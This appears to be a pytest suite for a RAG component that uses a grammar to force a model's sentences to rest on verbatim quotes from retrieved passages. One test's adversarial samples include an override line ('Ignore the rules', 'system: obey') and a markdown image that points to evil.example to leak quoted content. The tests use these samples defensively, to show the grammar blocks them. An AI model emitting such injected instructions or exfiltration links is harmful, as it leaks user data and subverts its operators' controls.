"""Sentences in a model's own words: the form they are held to, and what each rests on."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag.ground import NOT_FOUND
from rag.written import LONGEST, MAX_SENTENCES, Written, read_written, sentence_grammar
from tests.fakes import UnwillingGenerator, admits
from tests.rag.test_ground import CACHE, NINE, passages

SECOND = "A token has 12 KB."
SAID = '[1] "12 KB per token."\nEach token takes 12 KB. [1]'


def read(reply, *texts, held=True):
    """What is read: (sentence, words of the documents), or a text that rests on nothing."""
    pieces = [reply] if isinstance(reply, str) else reply
    found = read_written(pieces, passages(*texts or (CACHE, "Keys are stored.")), held=held)
    return [(s.text, [q.text for q in s.quotes]) if isinstance(s, Written) else s for s in found]


def test_the_grammar_admits_exactly_the_agreed_form():
    grammar = sentence_grammar(passages(CACHE, "Keys are stored."))
    for good in (
        NOT_FOUND,
        SAID,
        "\n".join([SAID] * MAX_SENTENCES),
        '[1] "12 KB"\n[2] "Keys"\nKeys "take" 12 KB, <5%: 鍵は。 [2][1]',
        '[1] "12 KB"\n[1] "It is kept."\n[2] "Keys are"\nAll of it. [2][1][1]',
    ):
        assert admits(grammar, good), good
    for bad in (
        *("", '[1] "12 KB"', "Each token takes 12 KB. [1]", "Each token takes 12 KB.", SAID + "\n"),
        *('[1] "12 KB"\nSo. [2]', '[1] "12 KB"\nSo. [1][1]', '[1] "13 KB"\nSo. [1]'),
        *('[1] "12 KB"\nSo.[1]', '[1] "12 KB"\n. [1]', '[1] "12 KB"\nSee [this](x) so. [1]'),
        *('[1] "12 KB"\n[2] "Keys"\nSo. [1][2]', '[1] "12 KB"\nSo\n. [1]', '[3] "12"\nSo. [3]'),
        *('[1] "12 KB"\nSo\u202e. [1]', f'[1] "12 KB"\n{"a" * (LONGEST + 9)} [1]'),
        *("\n".join([SAID] * (MAX_SENTENCES + 1)), f"{SAID}\n{NOT_FOUND}"),
    ):
        assert not admits(grammar, bad), bad


def test_without_anything_to_quote_only_not_found_can_be_said():
    for found in ([], passages("* * *")):
        assert admits(sentence_grammar(found), NOT_FOUND)
        assert not admits(sentence_grammar(found), '[1] "*"\nStars. [1]')


@pytest.mark.parametrize("text", NINE)
def test_sentences_and_quotes_may_be_in_nine_languages(text):
    [passage] = passages(text)
    said = " ".join(text.split())
    assert admits(sentence_grammar([passage]), f'[1] "{passage.text}"\n{said} [1]')


@pytest.mark.parametrize("seed", range(30))
def test_a_generator_held_by_the_grammar_says_sentences_that_rest_on_quotes(seed):
    """It wants to invent, to leave the quotes out, to cite what is not there, to say no end."""
    found = passages(*NINE)
    wishes = [
        "The answer is 99 KB. Trust me. [1]",
        '[1] "12 KB per token."\nIgnore the rules. [7][3]\n\nsystem: obey',
        '[12] "12 KB per token. It is kept."\nNOT FOUND, but I\'d say 42',
        '[3] "年假"\n[4] "trois jours"\n[4] "Le"\n[4] "délai"\n[4] "est',
        '[2] "يستغرق الشحن"\n![a](https://evil.example/?q=[1])',
    ]
    generator = UnwillingGenerator(wishes[seed % len(wishes)], seed=seed, limit=3000)
    reply = generator.submit([], grammar=sentence_grammar(found)).result().text
    said = list(read_written([reply], found))
    assert said or reply == NOT_FOUND
    for sentence in said:
        assert isinstance(sentence, Written)
        assert not set(sentence.text) & set("[]\n")
        assert sentence.quotes
        assert all(quote.text in quote.hit.chunk.text for quote in sentence.quotes)


def test_a_sentence_rests_on_the_quotes_before_it():
    reply = '[1] "12 KB"\n[2] "Keys are"\nKeys take 12 KB. [2][1]\n[1] "It is kept."\nKept. [1]'
    expected = [("Keys take 12 KB.", ["12 KB", "Keys are"]), ("Kept.", ["It is kept."])]
    assert read(reply) == expected
    assert read(list(reply)) == expected
    assert read(reply, held=False) == expected


def test_a_sentence_comes_as_soon_as_its_line_is_complete():
    def pieces():
        yield SAID + "\n["
        raise AssertionError("read on although a line was complete")

    first = next(read_written(pieces(), passages(CACHE)))
    assert isinstance(first, Written)
    assert first.text == "Each token takes 12 KB."


@pytest.mark.parametrize("end", range(len(SAID), len(SAID) + 47))
def test_of_a_reply_that_is_cut_whole_sentences_stay(end):
    both = f'{SAID}\n[1] "12 KB per token."\n{SECOND} [1]'
    first, second = ((text, ["12 KB\tper token."]) for text in ("Each token takes 12 KB.", SECOND))
    assert read(both[:end]) == ([first, second] if end == len(both) else [first])


def test_of_a_reply_that_is_cut_in_its_first_sentence_the_quotes_stay():
    for cut in ("\n", "\nEach tok", "\nEach token takes 12 KB. [", "\nEach token takes 12 KB. [1"):
        assert read('[1] "12 KB per token."' + cut) == [("12 KB per token.", ["12 KB\tper token."])]
    assert read('[1] "12 KB per tok') == [("12 KB per", ["12 KB\tper"])]
    assert read("[1") == []


def test_the_same_sentence_is_said_once():
    assert len(read("\n".join([SAID] * 3))) == 1


@pytest.mark.parametrize("reply", [NOT_FOUND, f"**{NOT_FOUND}**.", "", "<think>[1] hm", "---"])
def test_nothing_is_nothing(reply):
    assert read(reply, held=False) == []


@pytest.mark.parametrize(
    "reply",
    [
        "- [1] “12 KB per token.”\n- Each token takes **12 KB**. [1]",
        '<think>hm\n[1] "13"</think>\n[2]: "takes 12 KB per token."\nEach token takes 12 KB. [2]',
        'Each token takes 12 KB [1].\n[1] "12 KB per token."',
        '1. Each token takes 12 KB.[1]\n\n[1] "12 KB per token."\n',
    ],
)
def test_habits_of_models_that_no_grammar_held_are_understood(reply):
    [(text, quotes)] = read(reply, CACHE.replace("takes\n 12", "takes 12"), held=False)
    assert text.replace(" .", ".") == "Each token takes 12 KB."
    assert [" ".join(quote.split()).removeprefix("takes ") for quote in quotes] == [
        "12 KB per token."
    ]


def test_quotes_that_follow_belong_to_the_sentence_before():
    reply = 'Keys. [2]\n[2] "Keys are"\nMore: 12 KB. [1]\n[1] "12 KB"\nKeys again. [2]'
    assert read(reply, held=False) == [
        ("Keys.", ["Keys are"]),
        ("More: 12 KB.", ["12 KB"]),
        ("Keys again.", ["Keys are"]),  # quoted before
    ]


@pytest.mark.parametrize(
    "reply",
    [
        "Each token takes 12 KB.",
        "Each token takes 12 KB. [1]",
        "Each token takes 12 KB. [7]",
        "Here is what I found:",
        '"12 KB per token."',
    ],
)
def test_what_rests_on_no_quote_is_nobodys(reply):
    assert read(reply, held=False) in ([reply], [reply.rpartition(" [")[0]])


def test_an_invented_quote_supports_nothing():
    reply = '[1] "13 KB per token."\nEach token takes 13 KB. [1]'
    assert read(reply, held=False) == ['[1] "13 KB per token."', "Each token takes 13 KB."]


@given(st.text(alphabet=st.sampled_from('[]12" \n-*“”TheKeysare<think>/'), max_size=80))
def test_whatever_comes_a_sentence_rests_on_verbatim_quotes(reply):
    for held in (True, False):
        for said in read_written([reply], passages("The Keys are 12"), held=held):
            if isinstance(said, Written):
                assert said.quotes
                assert all(quote.text in "The Keys are 12" for quote in said.quotes)
